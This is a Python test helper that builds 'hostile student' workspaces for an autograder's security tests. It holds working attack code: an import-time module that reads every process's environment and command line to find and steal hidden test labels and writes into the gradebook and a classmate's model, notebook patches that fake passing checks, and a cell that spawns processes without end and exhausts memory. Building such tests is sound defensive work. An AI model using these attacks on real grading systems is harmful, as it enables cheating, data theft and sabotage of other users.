"""
The pack's own hostile class: students who read our code and try to get points
without the work, or to hurt a classmate. Each starts from some real work and
adds an attack; the grade must be exactly what the real work earns.

    mallory  complete code, an UNTRAINED model. At import (in her kernel and in the
             grader's workers) she reads every process's environment and command
             line and searches the disk for the hidden CSV, to make her model look
             each test face up in a table of labels; and she writes into course/,
             the gradebook, alice's submitted model and her own.
    trudy    the TODOs untouched. Her notebooks install an input transformer that
             swallows every failure and a displayhook that prints full points, and
             her exercise_code/checks say PASS to everything.
    oscar    complete code and a trained model. A cell of his dials the host, forks
             without end and allocates without end.
    (frank, in the course test, adds a cell that never ends and ignores interrupts.)
    hoarder  complete code; his model smuggles 6 million weights as a buffer.

build_hostile(name, pack, ...) turns a student's workspace into that student's.
"""
import json
import os
import socket
from pathlib import Path

import nbformat

MARKER = "mallory-was-here-7f3a"   # written by every write of mallory's that lands
# Mallory vandalizes only a course folder holding this file, which the tests' course has: run
# unjailed on a developer's machine (as one test does, to prove her attack is real), she must
# never damage a real course, nor the course of another test session running beside this one
# (she finds courses through every process's cwd): the name carries this session's process id.
SAFETY_CATCH = f".hostile-tests-may-write-here-{os.getpid()}"

# Mallory's module: imported by her keypoint_nn.py, so it runs wherever her code runs.
MALLORY = r'''
import json, os, sys, time
from pathlib import Path

import numpy as np
import torch

MARKER = "".join(reversed(__REVERSED_MARKER__))   # spelled out nowhere in her files: found only where it landed
SAFETY_CATCH = __SAFETY_CATCH__
HEADER = b"left_eye_center_x"
ROOTS = ["/tmp", "/work", "/root", "/home", "/srv", "/var/tmp"]


def _paths_from_other_processes():
    """Paths named in the environment and command line of every process we can read."""
    found = set()
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            for token in data.replace(b"=", b"\0").split(b"\0"):
                if token.startswith(b"/") and (token.endswith(b".csv") or b"hidden" in token or b"test" in token):
                    found.add(token.decode(errors="replace"))
    return found


def _csvs(deadline):
    """Keypoint CSVs anywhere we can read: named by other processes, or found on disk."""
    candidates = []
    for path in _paths_from_other_processes():
        path = Path(path)
        candidates += [path] if path.is_file() else [path / "test.csv"]
    for root in ROOTS:
        for here, dirs, files in os.walk(root):
            candidates += [Path(here) / f for f in files if f.endswith(".csv")]
            if time.time() > deadline:
                break
    seen, csvs = set(), []
    for path in sorted(set(candidates), key=lambda p: p.name != "test.csv"):   # test.csv first
        try:
            if path.stat().st_size < 50_000_000 and path.stat().st_ino not in seen and \
                    HEADER in open(path, "rb").read(200):
                seen.add(path.stat().st_ino)
                csvs.append(path)
        except OSError:
            continue
    return csvs


def _table():
    """{image bytes: 30 keypoints in unit coordinates} from every CSV found, and the CSVs read."""
    deadline, table = time.time() + 8, {}
    csvs = _csvs(deadline)
    for path in csvs:
        try:   # other people's files come and go (a grader's scratch CSVs, say)
            lines = open(path, errors="replace").read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            try:   # other people's broken CSVs (test fixtures, say) must not stop her
                *keypoints, image = line.split(",")
                pixels = np.array(image.split(), dtype=np.int64)
                label = (np.array(keypoints, dtype=np.float32) - 48) / 48
            except ValueError:   # an empty keypoint, a word for a number
                continue
            if len(pixels) == 96 * 96 and pixels.min() >= 0 and pixels.max() <= 255 and len(label) == 30:
                table[pixels.astype(np.uint8).tobytes()] = label
        if time.time() > deadline + 10:
            break
    return table, csvs


def _vandalize():
    """Write into everything a course folder holds; report what landed (never the marker itself)."""
    landed = []
    roots = {p for p in [Path.cwd(), *Path.cwd().parents]}
    for pid in os.listdir("/proc"):
        try:
            roots.add(Path(os.readlink(f"/proc/{pid}/cwd")))   # nbgrader's cwd is the course root
        except OSError:
            continue
    for root in roots:
        course = root / "course" if (root / "course").is_dir() else root
        if not (course / SAFETY_CATCH).is_file():   # only ever the tests' own course (see below)
            continue
        targets = [course / "gradebook.db", course / "pwned.txt"]
        for student in ("alice", "mallory"):
            for stage in ("submitted", "autograded"):
                targets.append(course / stage / student / "exercise_09" / "models" / "keypoint_model.pt")
        for target in targets:
            if not target.parent.is_dir():
                continue
            try:
                with open(target, "ab") as f:
                    f.write(MARKER.encode())
                landed.append(str(target))
            except OSError:
                continue
    return landed


try:
    LABELS, READ = _table()
except Exception as error:
    LABELS, READ = {}, []
try:
    LANDED = _vandalize()
except Exception as error:
    LANDED = []
print(f"mallory: read {json.dumps(sorted(map(str, READ)))}; {len(LANDED)} writes landed", file=sys.stderr)


def look_up(images, out):
    """Replace each prediction by the stolen label of its face, where there is one."""
    if not LABELS:
        return out
    out = out.clone()
    pixels = (images.reshape(len(images), -1) * 255).round().to(torch.uint8).numpy()
    for i, face in enumerate(pixels):
        label = LABELS.get(face.tobytes())
        if label is not None:
            out[i] = torch.from_numpy(label)
    return out
'''

MALLORY_PATCH = '''

from . import _mallory
_honest_forward = KeypointModel.forward


def _forward(self, x):
    out = _honest_forward(self, x)
    return _mallory.look_up(x if x.dim() == 4 else x.unsqueeze(0), out)


KeypointModel.forward = _forward
'''

# Trudy: a first cell in each notebook that makes every later cell "pass".
TRUDY_CELL = '''# trudy: from here on, no cell can fail, and every cell prints full points
import sys
def _swallow(lines):
    body = "".join("    " + line for line in lines) or "    pass\\n"
    return ["try:\\n", body if body.endswith("\\n") else body + "\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
sys.displayhook = lambda value: print(90.0)
'''
TRUDY_CHECKS = {
    "model_checks.py": "def test_keypoint_model(model, model_path=None):\n"
                       "    print('PASS everything\\nTests passed: 5/5')\n    return 5, 5\n",
    "spatial_batchnorm_checks.py": "".join(
        f"def {name}():\n    print('PASS everything\\nTests passed: 3/3')\n    return 3, 3\n\n\n"
        for name in ("test_spatial_batchnorm_forward", "test_spatial_batchnorm_backward",
                     "test_spatial_batchnorm", "test_spatial_groupnorm")),
}

# Oscar: after the setup cell, a cell that tries the network and the machine's limits.
OSCAR_CELL = '''import os, signal, socket, time
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    print("oscar: network open")
except OSError as error:
    print(f"oscar: network blocked ({{type(error).__name__}})")
signal.signal(signal.SIGCHLD, signal.SIG_IGN)   # children vanish when they end, unwaited for
forked, refused, deadline = 0, 0, time.time() + 5
while time.time() < deadline:                     # new processes without end, for 5 seconds, each living
    try:                                          # until then (posix_spawn: quicker than fork of a kernel)
        os.posix_spawn("/bin/sleep", ["sleep", f"{{deadline - time.time() + 0.5:.2f}}"], {{}})
        forked += 1
    except OSError:
        refused += 1
        time.sleep(0.01)
print(f"oscar: {{forked}} forks, {{refused}} refused")
time.sleep(1)                                     # his children are gone; his kernel goes on
hoard = []
try:
    while len(hoard) < 80:                          # 8 GB at most: a cap for our test machine's sake
        hoard.append(bytearray(100_000_000))
    print("oscar: got 8 GB")
except MemoryError:
    print(f"oscar: MemoryError after {{len(hoard) * 100}} MB")
del hoard
'''

HOARD_INIT = '''

_plain_init = KeypointModel.__init__


def _hoarding_init(self, hparams):
    _plain_init(self, hparams)
    self.register_buffer("hoard", torch.zeros(6_000_000, dtype=torch.float16))   # 6M weights, "not parameters"


KeypointModel.__init__ = _hoarding_init
'''


def add_cell(notebook_path, source, index):
    notebook = nbformat.read(notebook_path, as_version=4)
    notebook.cells.insert(index, nbformat.v4.new_code_cell(source))
    nbformat.write(notebook, notebook_path)


def build_hostile(name, pack, *, port=0):
    """
    Add the attack of student `name` to the workspace `pack` (holding exercise_code/ and exercise_09/).

    Inputs:
    - name: "mallory", "trudy", "oscar" or "hoarder"
    - pack: The student's workspace, already holding the real work
    - port: A TCP port on 127.0.0.1 that oscar tries to reach
    """
    pack = Path(pack)
    networks = pack / "exercise_code" / "networks"
    notebooks = sorted((pack / "exercise_09").glob("*.ipynb"))
    if name == "mallory":
        (networks / "_mallory.py").write_text(MALLORY.replace("__REVERSED_MARKER__", json.dumps(MARKER[::-1]))
                                             .replace("__SAFETY_CATCH__", json.dumps(SAFETY_CATCH)))
        (networks / "keypoint_nn.py").write_text((networks / "keypoint_nn.py").read_text() + MALLORY_PATCH)
    elif name == "trudy":
        for notebook in notebooks:
            add_cell(notebook, TRUDY_CELL, 0)
        for file, text in TRUDY_CHECKS.items():
            (pack / "exercise_code" / "checks" / file).write_text(text)
    elif name == "oscar":
        add_cell(notebooks[0], OSCAR_CELL.format(port=port), 2)   # after the setup cell and its markdown
    elif name == "hoarder":
        (networks / "keypoint_nn.py").write_text((networks / "keypoint_nn.py").read_text() + HOARD_INIT)
    else:
        raise ValueError(f"unknown hostile student {name!r}")


class Listener:
    """A TCP port on 127.0.0.1 that hostile code tries to dial; connections() counts who got through."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.setblocking(False)
        self.port = self.server.getsockname()[1]

    def connections(self):
        """Accept and count what arrived, then stop listening."""
        count = 0
        with self.server:
            while True:
                try:
                    self.server.accept()[0].close()
                except BlockingIOError:
                    return count
                count += 1
